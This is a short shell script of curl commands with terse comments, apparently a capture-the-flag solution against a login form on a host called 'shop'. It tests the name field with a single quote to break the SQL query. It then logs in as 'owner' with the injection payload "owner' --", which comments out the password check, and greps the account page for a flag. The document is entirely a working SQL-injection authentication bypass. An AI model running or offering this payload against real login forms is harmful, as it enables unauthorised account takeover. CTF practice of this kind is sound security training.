#-- look at the shop and its form
curl -s http://shop:8080/login
#-- a quote in the name breaks the query
curl -s http://shop:8080/login --data-urlencode "name=owner'" --data-urlencode 'password=x'
#-- so the name can end the query, and the password is no longer asked for
curl -s -c /tmp/jar http://shop:8080/login --data-urlencode "name=owner' --" --data-urlencode 'password=x'
curl -s -b /tmp/jar http://shop:8080/account | grep -o 'flag{[0-9a-f]*}'
